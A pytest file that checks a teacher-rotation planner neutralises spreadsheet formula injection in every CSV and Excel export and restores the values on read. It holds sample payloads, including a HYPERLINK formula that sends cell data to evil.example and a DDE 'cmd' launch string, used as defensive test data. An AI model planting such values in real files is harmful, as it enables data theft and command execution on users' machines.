"""Exports that cannot run code: no formula from data in any CSV or workbook the project writes,
and every reader undoes the CSV rule so that round trips hold (``rotation/io/cell_safety.py``)."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from rotation.allocation_files import (
    read_scores,
    write_allocation_csv,
    write_allocation_xlsx,
    write_staffing_csv,
    write_title_posts_csv,
    write_title_posts_xlsx,
)
from rotation.io import (
    read_dataset,
    read_plan_csv,
    write_compliance_csv,
    write_dataset,
    write_dataset_xlsx,
    write_plan_csv,
    write_plan_xlsx,
)
from rotation.io.cell_safety import restore_csv_cell, safe_csv_cell
from rotation.locks import read_locks
from rotation.models import Dataset
from rotation.policy import Policy
from rotation.scenarios import write_comparison_csv
from rotation.staffing import staffing_table
from rotation.title_posts import allocate_title_posts
from sample_data import generate
from solver.assign_unplaced import run_allocation
from solver.options import SolveOptions
from solver.plan_year import plan_year

# What a hostile or careless roster may hold (the measured cases of issue 14).
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "-2+3+cmd|' /C calc'!A0",
    "+86 公式",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_county() -> Dataset:
    """The tiny county with formula-like teacher and school names (ids unchanged)."""
    d = generate("tiny", seed=1, year=2026)
    schools = [
        s.model_copy(update={"name": HOSTILE[i % len(HOSTILE)] + s.name})
        for i, s in enumerate(d.schools)
    ]
    teachers = [
        t.model_copy(update={"name": HOSTILE[i % len(HOSTILE)] + t.name})
        for i, t in enumerate(d.teachers)
    ]
    return Dataset(schools=schools, teachers=teachers, needs=d.needs)


@pytest.fixture(scope="module")
def county() -> Dataset:
    return hostile_county()


@pytest.fixture(scope="module")
def plan(county: Dataset):  # type: ignore[no-untyped-def]
    """A real plan of the county, each move's name made hostile in turn."""
    plan = plan_year(county, 2026, Policy(), options=SolveOptions(backend="greedy"))
    assert len(plan.assignments) >= 2
    moves = tuple(
        a.model_copy(update={"name": HOSTILE[i % len(HOSTILE)] + a.name.lstrip("=+-@\t\r'")})
        for i, a in enumerate(plan.assignments)
    )
    return plan.model_copy(update={"assignments": moves})


@pytest.fixture(scope="module")
def allocation(county: Dataset):  # type: ignore[no-untyped-def]
    return run_allocation(county, 2026)


def csv_cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        for row in csv.reader(fh):
            yield from row


def formula_like(cell: str) -> bool:
    """A cell a spreadsheet would evaluate: starts with a trigger and is not a plain number."""
    if not cell.startswith(TRIGGERS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def assert_no_csv_formula(path: Path) -> int:
    """No cell of the CSV can start a formula; returns how many cells were neutralised."""
    cells = list(csv_cells(path))
    assert not [c for c in cells if formula_like(c)], path.name
    return sum(1 for c in cells if c.startswith("'") and c.lstrip("'").startswith(TRIGGERS))


def workbook_formulas(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def workbook_texts(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {
        c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row
        if isinstance(c, str)
    }  # fmt: skip


# ------------------------------------------------------------------ the rule itself
@pytest.mark.parametrize("value", [*HOSTILE, "-", "+", "'", "''-1", "普通文本", ""])
def test_a_neutralised_value_reads_back_as_it_was_written(value: str) -> None:
    written = safe_csv_cell(value)
    assert not formula_like(written)
    assert restore_csv_cell(written) == value


@pytest.mark.parametrize("number", ["-3", "-0.25", "+1", "-2e-3", "0", "12.5"])
def test_negative_and_signed_numbers_are_written_as_numbers(number: str) -> None:
    assert safe_csv_cell(number) == number


def test_a_formula_start_gets_one_leading_quote_as_owasp_describes() -> None:
    assert safe_csv_cell("=1+1") == "'=1+1"
    assert safe_csv_cell("-2+3+cmd|x") == "'-2+3+cmd|x"
    assert safe_csv_cell("@SUM(1)") == "'@SUM(1)"
    assert safe_csv_cell("\tx") == "'\tx"


# ------------------------------------------------------------------ every writer
def test_plan_csv_carries_no_formula_and_reads_back_unchanged(plan, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = write_plan_csv(plan, tmp_path / "plan.csv")
    assert assert_no_csv_formula(path) > 0
    names = {r["teacher_id"]: r["name"] for r in read_plan_csv(path)}
    assert names == {a.teacher_id: a.name.strip() for a in plan.assignments}
    assert any(n.startswith("=HYPERLINK") or n.startswith("-2+3") for n in names.values())


def test_compliance_csv_carries_no_formula(plan, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = write_compliance_csv(plan, tmp_path / "compliance.csv")
    assert assert_no_csv_formula(path) > 0


def test_plan_workbook_holds_hostile_names_as_text_not_formulas(  # type: ignore[no-untyped-def]
    plan, county: Dataset, tmp_path: Path
) -> None:
    path = write_plan_xlsx(plan, county, tmp_path / "plan.xlsx", policy=Policy())
    assert workbook_formulas(path) == []
    texts = workbook_texts(path)
    hostile_names = {a.name for a in plan.assignments if a.name.startswith("=")}
    assert hostile_names and hostile_names <= texts  # the values are unchanged


def test_roster_csv_round_trip_keeps_formula_like_names(county: Dataset, tmp_path: Path) -> None:
    folder = write_dataset(county, tmp_path / "roster")
    for f in folder.glob("*.csv"):
        assert_no_csv_formula(f)
    back = read_dataset(folder)
    assert [t.name for t in back.teachers] == [t.name.strip() for t in county.teachers]
    assert [s.name for s in back.schools] == [s.name.strip() for s in county.schools]


def test_roster_workbook_round_trip_keeps_formula_like_names(
    county: Dataset, tmp_path: Path
) -> None:
    path = write_dataset_xlsx(county, tmp_path / "roster.xlsx")
    assert workbook_formulas(path) == []
    back = read_dataset(path)
    assert [t.name for t in back.teachers] == [t.name.strip() for t in county.teachers]


def test_allocation_csv_and_staffing_csv_carry_no_formula(  # type: ignore[no-untyped-def]
    allocation, county: Dataset, tmp_path: Path
) -> None:
    assert_no_csv_formula(write_allocation_csv(allocation, tmp_path / "allocation.csv"))
    assert_no_csv_formula(write_staffing_csv(staffing_table(county), tmp_path / "staffing.csv"))


def test_allocation_workbook_holds_hostile_names_as_text(  # type: ignore[no-untyped-def]
    allocation, county: Dataset, tmp_path: Path
) -> None:
    path = write_allocation_xlsx(allocation, county, tmp_path / "allocation.xlsx")
    assert workbook_formulas(path) == []
    assert any(t.startswith("=HYPERLINK") for t in workbook_texts(path))


def test_title_posts_csv_and_workbook_carry_no_formula(county: Dataset, tmp_path: Path) -> None:
    senior = sum(1 for t in county.teachers if t.title.value in ("senior", "senior_plus"))
    result = allocate_title_posts(county, senior + 5, len(county.teachers))
    assert assert_no_csv_formula(write_title_posts_csv(result, tmp_path / "t.csv")) > 0
    path = write_title_posts_xlsx(result, tmp_path / "t.xlsx")
    assert workbook_formulas(path) == []
    assert any(t.startswith("=HYPERLINK") for t in workbook_texts(path))


def test_whatif_comparison_csv_carries_no_formula_and_keeps_negative_numbers(
    tmp_path: Path,
) -> None:
    rows = [{"scenario_id": "S01", "label": "=cmd|x", "status": "@evil", "moved": -3}]
    path = write_comparison_csv(rows, tmp_path / "comparison.csv")
    assert assert_no_csv_formula(path) == 2
    assert "-3" in list(csv_cells(path))


# ------------------------------------------------------------------ every reader
def test_locks_file_reverses_the_rule(county: Dataset, tmp_path: Path) -> None:
    teacher = county.teachers[0]
    path = tmp_path / "locks.csv"
    path.write_text(f"kind,teacher_id,school_id,note\nstay,{teacher.teacher_id},,'=孕期\n", "utf-8")
    locks = read_locks(path, county)
    assert [lock.note for lock in locks.items] == ["=孕期"]


def test_scores_file_reverses_the_rule_and_keeps_negative_scores(tmp_path: Path) -> None:
    path = tmp_path / "scores.csv"
    path.write_text("teacher_id,score\n'-T1,-3.5\nT2,88\n", encoding="utf-8")
    # a county on a scale around zero says so; the default range 0–100 would refuse -3.5
    assert read_scores(path, score_range=(-100, 100)) == {"-T1": -3.5, "T2": 88.0}
